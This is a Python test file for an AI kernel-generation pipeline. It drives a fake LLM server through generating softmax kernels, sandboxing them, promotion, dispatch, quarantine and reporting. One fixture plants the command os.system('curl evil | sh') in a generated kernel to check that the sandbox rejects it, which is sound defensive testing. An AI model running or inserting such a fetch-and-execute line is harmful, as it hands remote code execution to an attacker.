"""The whole factory on CPU against the fake server: generate -> sandbox -> verdict -> feedback
-> promotion into the store -> served by dispatch -> quarantine; attempts, report, transfer.

Kernels are real kernel files run in the real sandbox. The baseline is a real (deliberately
slow: it sleeps 30 ms per call) user kernel tuned into the store, so "faster beyond the
spread" has an honest margin on a loaded 2-core machine: the fast kernel takes well under
5 ms, the slow generated one sleeps 60 ms.
"""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest

pytest.importorskip("openai", reason="needs the openai client: pip install 'uhop[ai]'")

from fake_server import Act, FakeOpenAI, code_reply  # noqa: E402

from uhop.ai import Budget, FactoryOptions, generate, quarantine, report  # noqa: E402
from uhop.ai.attempts import attempt_store  # noqa: E402
from uhop.store import open_store  # noqa: E402

SOFTMAX = """
import time
import numpy as np

OP = "softmax"


def run(x):
    {sleep}e = np.exp(x - x.max(axis=-1, keepdims=True))
    return (e / e.sum(axis=-1, keepdims=True)).astype(x.dtype)
"""
FAST = SOFTMAX.format(sleep="")
BASELINE = SOFTMAX.format(sleep="time.sleep(0.03)\n    ")
SLOW = SOFTMAX.format(sleep="time.sleep(0.06)\n    ")
WRONG = FAST.replace("/ e.sum(axis=-1, keepdims=True)", "")  # unnormalized: wrong-result
HOSTILE = FAST.replace("import time", "import os").replace(
    "    e = np.exp", "    os.system('curl evil | sh')\n    e = np.exp"
)
HANGS = SOFTMAX.format(sleep="time.sleep(3600)\n    ")
SHAPE, DIMS = "64x128", {"R": 64, "N": 128}


@pytest.fixture
def fake():
    with FakeOpenAI() as f:
        yield f


@pytest.fixture
def baseline(tmp_path):
    """A measured store entry for softmax[64x128]: the sleeping user kernel, tuned for real."""
    from uhop.backends.user import add_kernel
    from uhop.tune.tuner import tune

    p = tmp_path / "baseline.py"
    p.write_text(BASELINE)
    add_kernel(p)
    res = tune("softmax", dims=DIMS, backends=["user"])
    assert res.best.candidate.backend == "user" and res.best.median_s >= 0.03
    return res


def _run(fake, **kw):
    opts = kw.pop("options", FactoryOptions(baseline="store", check_wall_s=20.0))
    flags = {"base_url": fake.base_url, "model": "fake-coder", "api_key": "sk-test", "timeout_s": 5.0, "max_retries": 1,
             "backoff_s": 0.05, **kw}  # fmt: skip
    return generate("softmax", flags.pop("shape", SHAPE), options=opts, **flags)


def test_end_to_end_two_rounds(fake, baseline):
    # round 0: a wrong kernel and a hostile one; round 1: a fast one (promoted) and a slow one
    fake.push(code_reply(WRONG), code_reply(HOSTILE), code_reply(FAST), code_reply(SLOW))
    res = _run(fake, rounds=2, variants=2)
    cats = [(a.round, a.variant, a.category, a.promoted) for a in res.attempts]
    assert cats == [
        (0, 0, "wrong-result", False),
        (0, 1, "forbidden", False),
        (1, 0, "ok", True),
        (1, 1, "ok", False),
    ], cats
    fast, slow = res.attempts[2], res.attempts[3]
    assert fast.speedup_previous > 2 and fast.speedup_baseline > 2
    assert slow.speedup_previous < 1  # judged against the promoted kernel, which it does not beat
    assert res.best_s == pytest.approx(fast.median_s) and len(res.promotions) == 1

    # feedback: round 1's prompt carries round 0's verdicts and the baseline's measured time
    prompt1 = fake.requests[2]["messages"][1]["content"]
    assert "wrong-result" in prompt1 and "forbidden" in prompt1 and "import of 'os'" in prompt1
    assert "time.sleep(0.03)" in prompt1  # the current best's source
    assert "def reference" in prompt1 and "## The hardware" in prompt1 and "compute units" in prompt1

    # the store serves the promoted kernel through dispatch (the user backend, sandboxed)
    entry = open_store().get(res.key)
    assert entry.candidate["backend"] == "user" and entry.candidate["template"] == fast.sha256[:16]
    from uhop.dispatch import resolve
    from uhop.problem import Problem

    kernel, backend, cand = resolve(Problem.make("softmax", DIMS, "float32", {}))
    assert backend.name == "user" and cand.template == fast.sha256[:16]
    x = np.random.default_rng().standard_normal((64, 128)).astype(np.float32)
    x64 = x.astype(np.float64)
    ref = np.exp(x64 - x64.max(-1, keepdims=True))
    ref /= ref.sum(-1, keepdims=True)
    np.testing.assert_allclose(kernel(x), ref, rtol=1e-5, atol=1e-6)

    # every attempt recorded, with the template hash, tokens and verdicts
    rows = attempt_store(open_store()).attempts(run_id=res.run_id)
    assert [r["category"] for r in rows] == ["wrong-result", "forbidden", "ok", "ok"]
    assert all(
        len(r["template_sha256"]) == 64 and r["model"] == "fake-coder" and r["tokens_in"] > 0 for r in rows
    )
    assert (
        rows[0]["max_err"] is None and rows[2]["max_err"] < 1e-5 and rows[2]["promoted"] and rows[0]["reason"]
    )

    doc = report()
    assert doc["variants"] == 4 and doc["validated"] == 2 and doc["promoted"] == 1
    assert doc["rejected_by_category"] == {"wrong-result": 1, "forbidden": 1}
    assert doc["tokens_per_promoted"] > 0 and doc["speedup_over_previous"]["n"] == 2
    assert doc["cost_model"][0]["p_valid"] == 0.5 and doc["promotions"][0]["quarantined"] is None

    # quarantine: the promoted file leaves the registry, the baseline entry is back
    out = quarantine(res.key, "spot check failed")
    assert out["restored"] == baseline.best.candidate.to_json()
    assert open_store().get(res.key).candidate == baseline.best.candidate.to_json()
    assert Path(out["file"]).is_file()
    from uhop.backends.user import list_kernels

    assert fast.sha256 not in {k.sha256 for k in list_kernels("softmax")}
    _, backend, cand = resolve(Problem.make("softmax", DIMS, "float32", {}))
    assert cand.to_json() == baseline.best.candidate.to_json()
    assert report()["promotions"][0]["reason"] == "spot check failed"
    with pytest.raises(LookupError, match="no active AI promotion"):
        quarantine(res.key)


def test_provider_failures_are_attempts_and_loop_goes_on(fake, baseline):
    fake.push(
        Act(kind="status", status=429, headers={"Retry-After": "0"}),
        code_reply(HANGS),  # rate-limited once, then a hang
        Act(kind="raw", body=b'{"choices": [{"mess', content_type="application/json"),  # truncated JSON
        Act(kind="status", status=500),
        Act(kind="status", status=502),  # 5xx past the retries
        Act(text="I cannot write that kernel."),  # no code block
        Act(kind="stall", delay_s=30),  # timeout (retried once: the next act is a stall too)
        Act(kind="stall", delay_s=30),
        code_reply("x = 1\n" + "# pad\n" * 100_000),  # a huge reply
    )
    res = _run(
        fake, rounds=3, variants=2, timeout_s=1.0, options=FactoryOptions(baseline="store", check_wall_s=2.0)
    )
    cats = [a.category for a in res.attempts]
    assert cats == ["timeout", "malformed-reply", "server-error", "no-code", "timeout", "reply-too-large"], (
        cats
    )
    assert (
        res.attempts[0].check_s >= 2.0 and res.attempts[0].tokens_in > 0
    )  # the hang ran into the sandbox limit
    assert res.attempts[4].check_s == 0.0  # a provider timeout, no sandbox run
    assert not res.promotions and open_store().get(res.key).candidate == baseline.best.candidate.to_json()
    doc = report()
    assert doc["rejected_by_category"]["timeout"] == 2 and doc["validated"] == 0


def test_an_unreachable_provider_stops_the_run_after_one_attempt():
    """Connection refused through every retry: the next request would be refused too (the run
    made every request of every round before, 44 s for 2 x 2 on a closed port)."""
    import socket

    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    res = generate("softmax", SHAPE, rounds=2, variants=2, options=FactoryOptions(baseline="store"),
                   base_url=f"http://127.0.0.1:{port}/v1", model="m", api_key="k", timeout_s=2.0, max_retries=1,
                   backoff_s=0.01)  # fmt: skip
    assert [a.category for a in res.attempts] == ["connection"]
    assert res.stopped.startswith(f"provider unreachable at 127.0.0.1:{port}")


def test_a_device_this_machine_lacks_is_refused_before_any_request(fake):
    from uhop.errors import InputError

    for device, expected in (("tpu", "must be cpu, cuda or cuda:N"), ("cuda:7", "cuda:7")):
        with pytest.raises(InputError, match=expected):
            _run(fake, device=device)
    assert fake.requests == []


def test_budget_stops_the_run(fake):
    fake.push(code_reply(WRONG), code_reply(WRONG), code_reply(WRONG))
    res = _run(fake, rounds=3, variants=1, budget=Budget(max_tokens=1))
    assert len(res.attempts) == 1 and "token budget" in res.stopped
    assert fake.requests[0]["max_tokens"] == 1


def test_knowledge_transfer_to_a_related_shape(fake):
    fake.push(
        code_reply(FAST)
    )  # problem A: no entry yet, baseline=store -> the first valid kernel is promoted
    a = _run(fake, rounds=1, variants=1)
    assert a.attempts[0].promoted and not a.attempts[0].transfer
    fake.push(code_reply(WRONG))  # problem B: another shape of the same op
    b = _run(fake, shape="48x96", rounds=1, variants=1)
    prompt_b = fake.requests[1]["messages"][1]["content"]
    assert "softmax[64x128]" in prompt_b and "e.sum(axis=-1, keepdims=True)).astype" in prompt_b
    assert b.attempts[0].transfer
    fake.push(code_reply(WRONG))  # the same without transfer
    c = _run(
        fake, shape="40x80", rounds=1, variants=1, options=FactoryOptions(baseline="store", transfer=False)
    )
    assert "Nothing recorded for related problems" in fake.requests[2]["messages"][1]["content"]
    assert not c.attempts[0].transfer
    t = report()["transfer"]
    assert t["with"] == {"variants": 1, "promoted": 0, "promotion_rate": 0.0}
    assert t["without"] == {"variants": 2, "promoted": 1, "promotion_rate": 0.5}


def test_cli_generate_report_quarantine(fake, tmp_path):
    from typer.testing import CliRunner

    from uhop.cli import build_app

    app = build_app()
    fake.push(code_reply(FAST))
    out = tmp_path / "run.json"
    r = CliRunner().invoke(app, ["ai", "generate", "softmax", "--shape", SHAPE, "--rounds", "1", "--variants", "1",
                                 "--base-url", fake.base_url, "--model", "fake-coder", "--baseline", "store",
                                 "--json", str(out)])  # fmt: skip
    assert r.exit_code == 0, r.output
    assert "PROMOTED" in r.output
    doc = json.loads(out.read_text())
    assert doc["attempts"][0]["category"] == "ok" and doc["promotions"]
    r = CliRunner().invoke(app, ["ai", "report", "--since", "1d", "--json"])
    assert r.exit_code == 0 and json.loads(r.output)["promoted"] == 1
    r = CliRunner().invoke(app, ["ai", "quarantine", doc["key"]])
    assert r.exit_code == 0 and "restored: nothing" in r.output
    assert open_store().get(doc["key"]) is None
    r = CliRunner().invoke(
        app, ["ai", "generate", "nosuchop", "--shape", "8", "--base-url", fake.base_url, "--model", "m"]
    )
    assert r.exit_code == 2 and "OP must be one of" in r.output


def test_a_generated_kernel_is_judged_as_it_will_be_served(tmp_path):
    """The verdict a promotion is decided on is the kernel's time as dispatch serves it (the
    sandboxed worker's round trip included), not its time inside the sandbox: a numpy softmax of
    256 x 4096 took 1.8 ms in the sandbox and 18.5 ms per call as served, and was promoted over
    in-process kernels of 2-5 ms."""
    import time

    from uhop.ai.promote import sandbox_check
    from uhop.backends.user import SandboxedKernel
    from uhop.problem import Problem
    from uhop.sandbox.kernelfile import load

    f = tmp_path / "fast.py"
    f.write_text(FAST)
    prob = Problem.make("softmax", {"R": 256, "N": 4096}, "float32")
    v = sandbox_check(f, prob)
    assert v.ok, v.reason
    assert v.kernel_s < v.median_s and v.min_s <= v.median_s
    k = SandboxedKernel(load(f))
    x = np.random.default_rng().standard_normal((256, 4096)).astype(np.float32)
    k(x)
    ts = []
    for _ in range(7):
        t = time.perf_counter()
        k(x)
        ts.append(time.perf_counter() - t)
    k.close()
    served = sorted(ts)[3]
    # the same path timed here and in the verdict (4 MB each way: transport dominates the kernel)
    assert 0.4 * served < v.median_s < 2.5 * served, (v.median_s, served, v.kernel_s)
